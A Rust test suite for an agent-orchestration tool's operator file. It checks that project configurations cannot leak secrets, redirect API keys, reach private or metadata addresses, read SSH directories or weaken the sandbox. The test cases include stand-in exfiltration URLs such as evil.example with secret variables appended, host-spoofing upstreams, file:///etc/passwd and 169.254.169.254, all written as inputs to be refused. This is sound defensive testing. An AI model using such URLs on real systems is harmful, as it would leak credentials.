//! Section 13: the operator file, and projects that ask for more than their operator allows.

use std::collections::BTreeMap;

use proptest::prelude::*;
use rstest::rstest;
use serde_json::json;
use tamma_core::operator::{OperatorConfig, SyslogAddress, WebOrigin, is_public_address};
use tamma_core::rules::{self, ConfigFile, LoadedRules};

const EXAMPLE: &str = include_str!("../../../../../examples/operator.yaml");

/// Values of variables that must reach neither a message nor another host.
const VALUES: [(&str, &str); 9] = [
    ("ANTHROPIC_API_KEY", "hush-anthropic"),
    ("CLAUDE_CODE_OAUTH_TOKEN", "hush-oauth"),
    ("DEPLOY_TOKEN", "hush-deploy"),
    ("HTTPS_PROXY", "http://proxy.example"),
    ("SHOP_KEY", "hush-shop"),
    ("TAMMA_CHAT_KEY", "hush-chat"),
    ("TAMMA_DATABASE_URL", "postgres://hush"),
    ("TAMMA_TOKEN", "hush-token"),
    ("tamma_token", "hush-small"),
];

fn load(text: &str, operator: &str, more: &[(&str, &str)]) -> Result<LoadedRules, Vec<String>> {
    let operator = OperatorConfig::parse(operator).expect(operator);
    let variables = VALUES.iter().chain(more);
    let variables = variables.map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
    let variables: BTreeMap<String, String> = variables.collect();
    let file = ConfigFile { name: "tamma.yaml", text };
    rules::load(Some(file), &variables, &operator).map_err(|problems| {
        let problems = problems.iter().map(|problem| {
            let all = format!("{problem} {problem:?} {:?}", problem.fault.help());
            assert!(!all.contains("hush"), "{all}");
            let line = problem.location().map_or(0, |at| at.line);
            format!("{line} {} {problem}", problem.fault.code())
        });
        problems.collect()
    })
}

fn assert_refused(text: &str, operator: &str, expected: &str) {
    let problems = load(text, operator, &[]).expect_err(text);
    let [problem] = &problems[..] else { panic!("{text}: {problems:#?}") };
    assert!(problem.contains("not_allowed") && problem.contains(expected), "{text}: {problem}");
}

fn channel(config: &str) -> String {
    format!("scrum_master: {{alerts: {{channels: [{{type: webhook, config: {{{config}}}}}]}}}}\n")
}

// The file

#[test]
fn an_operator_file_names_toolchains_and_test_variables() {
    let text = "toolchains: [/opt/go]\ntest_environment:\n  DB_URL: postgres://test\n";
    let config = OperatorConfig::parse(text).unwrap();
    assert_eq!(config.toolchains, ["/opt/go"]);
    assert_eq!(config.test_environment["DB_URL"], "postgres://test");
    for empty in ["", "# nothing yet\n\n"] {
        assert_eq!(OperatorConfig::parse(empty), Ok(OperatorConfig::default()));
    }
}

#[test]
fn the_example_has_every_key() {
    let example = OperatorConfig::parse(EXAMPLE).unwrap();
    let example = serde_json::to_value(example).unwrap();
    for (key, value) in example.as_object().unwrap() {
        assert!(EXAMPLE.contains(&format!("\n{key}:")), "`{key}` is not in the example");
        assert_ne!(*value, json!(null), "{key}");
    }
}

#[test]
fn an_operator_file_sets_every_limit() {
    let text = "\
variables: [SHOP_KEY]
upstreams: {ANTHROPIC_API_KEY: ['https://gateway.example:8443/anthropic']}
weakest_sandbox: landlock
alert_hosts: [127.0.0.1, '::1', hooks.intra]
chat: {url: 'http://127.0.0.1:11434/v1', model: small}
embeddings: {url: 'https://api.example/v1', model: vectors}
models: [haiku, opus]
prices: {mine: {input: 1, cached: 0.1, output: 2}}
audit: {syslog: 'udp://[::1]', webhook: {url: 'http://127.0.0.1:1/x', secret: whsec_aHVzaA==}}
";
    let config = OperatorConfig::parse(text).unwrap();
    let syslog = config.audit.syslog.as_deref().and_then(SyslogAddress::parse);
    assert_eq!(syslog, Some(SyslogAddress::Udp("::1".to_owned(), 514)));
    assert!(!format!("{:?}", config.audit).contains("whsec"), "secrets are not printed");
    assert!(config.allows_variable("SHOP_KEY") && config.allows_alert_host("::1"));
    assert_eq!(config.chat.map(|api| api.model).as_deref(), Some("small"));
    assert_eq!(config.prices.len(), 1);
}

#[rstest]
#[case("toolchains: [opt/go]", "not an absolute path")]
#[case("toolchains: [/]", "not an absolute path")]
#[case("readable: [srv]", "not an absolute path")]
#[case("homes: [../x]", "not below the home directory")]
#[case("homes: [/root/.ssh]", "not below the home directory")]
#[case("test_environment: {PATH: /x}", "`PATH` cannot be set")]
#[case("test_environment: {1A: x}", "`1A` cannot be set")]
#[case("secrets: {A: hush-hush}", "unknown key")]
#[case("test_environment: [hush-hush", "invalid YAML")]
#[case("weakest_sandbox: none-hush", "wrong type")]
#[case("agents_per_project: 0", "wrong type")]
#[case("variables: [TAMMA_TOKEN]", "projects cannot use `TAMMA_TOKEN`")]
#[case("variables: [tamma_database_url]", "projects cannot use `tamma_database_url`")]
#[case("variables: ['A B']", "projects cannot use `A B`")]
#[case("upstreams: {TAMMA_CHAT_KEY: ['https://x']}", "projects cannot use `TAMMA_CHAT_KEY`")]
#[case("upstreams: {A: ['https://ann:hush@x']}", "`upstreams`: an entry is not a URL")]
#[case("chat: {url: 'ftp://hush', model: m}", "`chat`: an entry is not a URL")]
#[case("alert_hosts: ['https://x/']", "not a host name")]
#[case("audit: {syslog: 'logs.example:514'}", "`audit.syslog`")]
#[case("audit: {syslog: 'unix://dev/log'}", "`audit.syslog`")]
#[case("audit: {webhook: {url: 'https://x', secret: hush}}", "`secret` is not `whsec_`")]
#[case(
    "audit: {webhook: {url: 'hush', secret: whsec_a}}",
    "`audit.webhook`: an entry is not a URL"
)]
fn problems_of_an_operator_file_are_reported_without_values(
    #[case] text: &str,
    #[case] expected: &str,
) {
    let error = OperatorConfig::parse(text).expect_err(text).to_string();
    assert!(error.contains(expected) && !error.contains("hush"), "{text}: {error}");
}

// Variables

#[rstest]
#[case("TAMMA_TOKEN", "belongs to Tamma itself")]
#[case("TAMMA_DATABASE_URL", "belongs to Tamma itself")]
#[case("tamma_token", "belongs to Tamma itself")]
#[case("TAMMA_ALERT_SLACK_TOKEN", "belongs to Tamma itself")]
#[case("DEPLOY_TOKEN", "has not allowed projects to use the variable `DEPLOY_TOKEN`")]
#[case("ANTHROPIC_API_KEY", "has not allowed projects to use the variable")]
// Whether it is set is not told either.
#[case("NOT_SET", "has not allowed projects to use the variable `NOT_SET`")]
fn a_project_cannot_use_variables_that_its_operator_has_not_listed(
    #[case] name: &str,
    #[case] reason: &str,
) {
    let url = channel(&format!("url: 'https://evil.example/${{{name}}}'"));
    assert_refused(&url, "", reason);
    assert_refused(&format!("agents: {{codex: {{env: {{X: '${{{name}}}'}}}}}}"), "", reason);
    assert_refused(&format!("agents: {{codex: {{inherit: [PATH, {name}]}}}}"), "", reason);
}

#[test]
fn a_refused_variable_is_reported_with_its_line() {
    let text = "agents:\n  codex:\n    env:\n      X: ${DEPLOY_TOKEN}\n    inherit:\n      - PATH\n      - TAMMA_TOKEN\n";
    let problems = load(text, "", &[]).unwrap_err();
    assert_eq!(
        problems,
        [
            "4 not_allowed `agents.codex.env.X` is not allowed here: the operator has not allowed \
             projects to use the variable `DEPLOY_TOKEN`",
            "7 not_allowed `agents.codex.inherit[1]` is not allowed here: `TAMMA_TOKEN` belongs to \
             Tamma itself, and no project can use it",
        ]
    );
}

#[test]
fn a_project_can_use_variables_that_its_operator_has_listed() {
    let text = "agents: {codex: {env: {X: 'a-${SHOP_KEY}'}, inherit: [SHOP_KEY]}}\n".to_owned()
        + &channel("url: 'https://hooks.example/${SHOP_KEY}'");
    let rules = load(&text, "variables: [SHOP_KEY]", &[]).unwrap().rules;
    assert_eq!(rules.agents["codex"].env["X"], "a-hush-shop");
    assert_refused("agents: {codex: {env: {X: '${SHOP_KEY}'}}}", "variables: [OTHER]", "SHOP_KEY");
}

#[test]
fn an_alert_variable_can_only_be_the_whole_value_of_its_setting() {
    let set = [("TAMMA_ALERT_WEBHOOK_URL", "https://hooks.example/hush")];
    let whole = channel("url: '${TAMMA_ALERT_WEBHOOK_URL}'");
    assert!(load(&whole, "", &set).is_ok());
    let fallback = channel("url: '${TAMMA_ALERT_WEBHOOK_URL:-https://hooks.example}'");
    assert!(load(&fallback, "", &[]).is_ok());
    for config in [
        "url: 'https://evil.example/?${TAMMA_ALERT_WEBHOOK_URL}'",
        "url: '${TAMMA_ALERT_WEBHOOK_URL}${TAMMA_ALERT_WEBHOOK_URL}'",
        "url: '${TAMMA_ALERT_SLACK_TOKEN}'",
        "secret: '${TAMMA_ALERT_WEBHOOK_URL}', url: 'https://hooks.example'",
    ] {
        let problems = load(&channel(config), "", &set).expect_err(config);
        assert!(problems[0].contains("belongs to Tamma itself"), "{problems:?}");
    }
}

#[rstest]
#[case("gates: {t: {command: 'curl -H ${SHOP_KEY}'}}")]
#[case("setup: {command: 'login ${SHOP_KEY}'}")]
#[case("agents: {codex: {args: ['--token=${SHOP_KEY}']}}")]
#[case("agents: {codex: {files: {a: '${SHOP_KEY}'}}}")]
#[case("agents: {codex: {upstream: '${SHOP_KEY}'}}")]
#[case("tiers: {simple: {model: '${SHOP_KEY}'}}")]
#[case("budget: {task_usd: '${SHOP_KEY}'}")]
#[case("permissions: {planner: {allow: ['command: ${SHOP_KEY}']}}")]
#[case("engines: {per_provider: {a: '${SHOP_KEY}'}}")]
fn no_value_of_a_variable_is_stored_with_tasks(#[case] text: &str) {
    assert_refused(text, "variables: [SHOP_KEY]", "`SHOP_KEY` would be stored with every task");
}

#[test]
fn stored_rules_contain_no_value_of_a_variable() {
    let text = "agents: {codex: {env: {X: 'a-${SHOP_KEY}'}}}\n".to_owned()
        + &channel("url: 'https://hooks.example/${SHOP_KEY}', secret: '${SHOP_KEY}'");
    let rules = load(&text, "variables: [SHOP_KEY]", &[]).unwrap().rules;
    assert!(serde_json::to_string(&rules).unwrap().contains("hush"));
    assert!(!serde_json::to_string(&rules.without_secrets()).unwrap().contains("hush"));
}

#[test]
fn built_in_agents_inherit_their_own_credentials_and_the_proxy() {
    let inherit = |agent: &str, more: &str| {
        format!(
            "agents: {{{agent}: {{{more}inherit: [PATH, HTTPS_PROXY, CLAUDE_CODE_OAUTH_TOKEN]}}}}"
        )
    };
    assert!(load(&inherit("claude-code", ""), "", &[]).is_ok());
    let reason = "the variable `CLAUDE_CODE_OAUTH_TOKEN`";
    assert_refused(&inherit("codex", ""), "", reason);
    assert_refused(&inherit("claude-code", "command: sh, "), "", reason);
    assert_refused(&inherit("mine", "command: sh, "), "", reason);
}

// Upstreams

#[rstest]
#[case(
    "claude-code: {upstream: 'https://evil.example'}",
    "only sent to `https://api.anthropic.com`"
)]
#[case("claude-code: {upstream: 'http://api.anthropic.com'}", "only sent to")]
#[case("claude-code: {upstream: 'https://api.anthropic.com@evil.example'}", "not a plain URL")]
#[case("claude-code: {upstream: 'https://api.anthropic.com\\@evil.example'}", "not a plain URL")]
#[case("claude-code: {upstream: 'https://api.anthropic.com.evil.example'}", "only sent to")]
#[case(
    "claude-code: {key: OPENAI_API_KEY}",
    "`OPENAI_API_KEY` is only sent to `https://api.openai.com`"
)]
#[case("codex: {key: TAMMA_DATABASE_URL}", "`TAMMA_DATABASE_URL` is not a provider's key")]
#[case(
    "mine: {command: x, key: DEPLOY_TOKEN, upstream: 'https://evil.example'}",
    "not a provider's key"
)]
fn a_key_is_only_sent_to_its_provider(#[case] agent: &str, #[case] reason: &str) {
    assert_refused(&format!("agents: {{{agent}}}"), "", reason);
}

#[rstest]
#[case("opencode: {key: ANTHROPIC_API_KEY, upstream: 'https://API.anthropic.com/v1'}", "")]
#[case(
    "claude-code: {upstream: 'http://127.0.0.1:4711'}",
    "upstreams: {ANTHROPIC_API_KEY: ['http://127.0.0.1']}"
)]
#[case(
    "mine: {command: x, key: SHOP_KEY, upstream: 'https://llm.shop/v1'}",
    "upstreams: {SHOP_KEY: ['https://llm.shop']}"
)]
#[case("mine: {command: x, upstream: 'https://anywhere.example'}", "")]
fn an_operator_can_add_upstreams(#[case] agent: &str, #[case] operator: &str) {
    let loaded = load(&format!("agents: {{{agent}}}"), operator, &[]);
    assert!(loaded.is_ok(), "{:?}", loaded.err());
}

#[test]
fn an_upstream_is_added_for_one_key_and_one_port() {
    let operator = "upstreams: {OPENAI_API_KEY: ['https://llm.shop:8443']}";
    let with = |agent: &str, url: &str| format!("agents: {{{agent}: {{upstream: '{url}'}}}}");
    assert!(load(&with("codex", "https://llm.shop:8443/v1"), operator, &[]).is_ok());
    assert_refused(&with("codex", "https://llm.shop"), operator, "only sent to");
    assert_refused(&with("claude-code", "https://llm.shop:8443"), operator, "only sent to");
}

// Sandbox

#[rstest]
#[case("off", "", false)]
#[case("landlock", "", false)]
#[case("auto", "", true)]
#[case("bubblewrap", "", true)]
#[case("seatbelt", "", true)]
#[case("landlock", "weakest_sandbox: landlock", true)]
#[case("off", "weakest_sandbox: landlock", false)]
#[case("landlock", "weakest_sandbox: off", true)]
#[case("off", "weakest_sandbox: off", true)]
fn a_project_cannot_weaken_the_sandbox(
    #[case] mode: &str,
    #[case] operator: &str,
    #[case] allowed: bool,
) {
    let text = format!("engines:\n  sandbox: {mode}\n");
    match load(&text, operator, &[]) {
        Ok(_) => assert!(allowed),
        Err(problems) => {
            let expected = format!(
                "2 not_allowed `engines.sandbox` is not allowed here: `{mode}` is weaker than the \
                 operator allows"
            );
            assert_eq!((allowed, problems), (false, vec![expected]));
        }
    }
}

#[test]
fn the_operators_own_variable_can_disable_the_sandbox() {
    assert!(load("", "", &[("TAMMA_ENGINES_SANDBOX", "off")]).is_ok());
    assert!(load("engines: {sandbox: auto}", "", &[("TAMMA_ENGINES_SANDBOX", "off")]).is_ok());
}

#[rstest]
#[case("/root/.ssh", "", false)]
#[case("/srv/cache", "readable: [/srv]", true)]
#[case("/srv", "toolchains: [/srv/]", true)]
#[case("/srv/cache", "readable: [/]", true)]
#[case("/srv-secret", "readable: [/srv]", false)]
#[case("/srv/../root", "readable: [/srv]", false)]
fn a_project_reads_only_paths_that_its_operator_lists(
    #[case] path: &str,
    #[case] operator: &str,
    #[case] allowed: bool,
) {
    let text = format!("engines: {{readable: ['{path}']}}");
    if allowed {
        assert!(load(&text, operator, &[]).is_ok(), "{path}");
    } else {
        assert_refused(&text, operator, "has not allowed projects to read this path");
    }
}

#[rstest]
#[case(".ssh", "", false)]
#[case(".config", "", false)]
#[case(".claude-secret", "", false)]
#[case(".claude", "", true)]
#[case(".qwen/settings.json", "", true)]
#[case(".config/goose", "homes: [.config/goose]", true)]
fn an_agent_uses_only_known_parts_of_the_home_directory(
    #[case] path: &str,
    #[case] operator: &str,
    #[case] allowed: bool,
) {
    let text = format!("agents: {{mine: {{command: x, home: ['{path}']}}}}");
    if allowed {
        assert!(load(&text, operator, &[]).is_ok(), "{path}");
    } else {
        assert_refused(&text, operator, "this path of the home directory");
    }
}

// Alerts, chat and embeddings

#[rstest]
#[case("http://hooks.example/x", "only sent over `https`")]
#[case("https://127.0.0.1/x", "not a public one")]
#[case("https://localhost:8080/x", "not a public one")]
#[case("https://169.254.169.254/latest/meta-data", "not a public one")]
#[case("https://[::1]/x", "not a public one")]
#[case("https://[::ffff:10.0.0.1]/x", "not a public one")]
#[case("https://2130706433/x", "not a plain URL")]
#[case("https://0x7f.1/x", "not a plain URL")]
#[case("https://ann:hush@hooks.example", "not a plain URL")]
#[case("file:///etc/passwd", "not a plain URL")]
fn an_alert_goes_to_public_hosts_over_tls(#[case] url: &str, #[case] reason: &str) {
    let problems = load(&channel(&format!("url: '{url}'")), "", &[]).expect_err(url);
    assert!(problems.len() == 1 && problems[0].contains(reason), "{url}: {problems:?}");
}

#[test]
fn an_operator_can_list_hosts_of_alerts() {
    let operator = "alert_hosts: [127.0.0.1, Hooks.intra]";
    for url in ["http://127.0.0.1:1/x", "http://hooks.intra/x", "https://hooks.example/x"] {
        assert!(load(&channel(&format!("url: '{url}'")), operator, &[]).is_ok(), "{url}");
    }
    assert_refused(&channel("url: 'http://127.0.0.2'"), operator, "https");
    let own = [("TAMMA_ALERT_WEBHOOK_URL", "http://127.0.0.1:1/x")];
    assert!(load("", "", &own).is_ok());
}

#[rstest]
#[case("chat: {url: 'https://evil.example', model: m}")]
#[case("embeddings: {url: 'https://evil.example', model: m}")]
#[case("variables: [TAMMA_TOKEN]")]
#[case("weakest_sandbox: off")]
#[case("agents_per_project: 100")]
fn keys_of_the_operator_are_refused_in_a_project(#[case] text: &str) {
    assert_refused(text, "", "only the operator of the machine can set it");
}

// Agents of a project

#[rstest]
#[case("", "", None)]
#[case("engines: {per_project: 3}", "", Some(3))]
#[case("", "agents_per_project: 4", Some(4))]
#[case("engines: {per_project: 3}", "agents_per_project: 4", Some(3))]
#[case("engines: {per_project: 100}", "agents_per_project: 4", Some(4))]
fn the_lower_limit_of_project_and_operator_counts(
    #[case] project: &str,
    #[case] operator: &str,
    #[case] expected: Option<u16>,
) {
    let rules = load(project, operator, &[]).unwrap().rules;
    let operator = OperatorConfig::parse(operator).unwrap();
    assert_eq!(rules.engines.agent_limit(&operator), expected);
}

// Models

#[test]
fn an_operator_limits_the_models() {
    let operator = "models: [haiku, sonnet, opus, gpt-5.5]";
    assert!(load("", operator, &[]).is_ok());
    assert!(load("tiers: {simple: {agent: codex, model: openai/gpt-5.5}}", operator, &[]).is_ok());
    assert_refused(
        "tiers: {simple: {agent: codex, model: gpt-5.5-pro}}\nbudget: {task_usd: null}",
        operator,
        "has not allowed the model `gpt-5.5-pro`",
    );
    assert_refused("tiers: {simple: {agent: codex}}", operator, "the agent would choose a model");
    assert_refused(
        "council: {chair: {tier: complex, model: haiku-9}}\nbudget: {task_usd: null}",
        operator,
        "haiku-9",
    );
}

#[test]
fn a_project_cannot_lower_the_operators_prices() {
    let free = "prices: {gpt-5.5: {input: 0, cached: 0, output: 0}, openai/gpt-5.5: {input: 0, cached: 0, output: 0}, own: {input: 1, cached: 1, output: 1}}";
    let operator = "prices: {gpt-5.5: {input: 5, cached: 1, output: 9}}";
    let rules = load(free, operator, &[]).unwrap().rules;
    let names: Vec<_> = rules.prices.keys().map(String::as_str).collect();
    assert_eq!(names, ["gpt-5.5", "own"]);
    assert_eq!(rules.prices["gpt-5.5"].input.to_string(), "$5");
}

// Addresses

#[rstest]
#[case("1.1.1.1", true)]
#[case("2606:4700:4700::1111", true)]
#[case("0.0.0.0", false)]
#[case("10.1.2.3", false)]
#[case("100.64.0.1", false)]
#[case("127.8.8.8", false)]
#[case("169.254.169.254", false)]
#[case("172.31.0.1", false)]
#[case("192.168.1.1", false)]
#[case("198.19.0.1", false)]
#[case("224.0.0.1", false)]
#[case("255.255.255.255", false)]
#[case("::", false)]
#[case("::1", false)]
#[case("::ffff:127.0.0.1", false)]
#[case("::ffff:1.1.1.1", true)]
#[case("64:ff9b::a00:1", false)]
#[case("2002:7f00:1::", false)]
#[case("fc00::1", false)]
#[case("fe80::1", false)]
#[case("ff02::1", false)]
#[case("2001:db8::1", false)]
#[case("2001::1", false)]
fn private_and_reserved_addresses_are_not_public(#[case] address: &str, #[case] public: bool) {
    assert_eq!(is_public_address(address.parse().unwrap()), public, "{address}");
}

proptest! {
    #[test]
    fn an_origin_has_only_letters_that_every_client_reads_alike(text in "https?://[ -~]{0,20}") {
        if let Some(origin) = WebOrigin::parse(&text) {
            let is_plain = |it: char| it.is_ascii_alphanumeric() || matches!(it, '.' | '-' | '_' | ':');
            prop_assert!(!origin.host().is_empty() && origin.host().chars().all(is_plain));
        }
    }
}
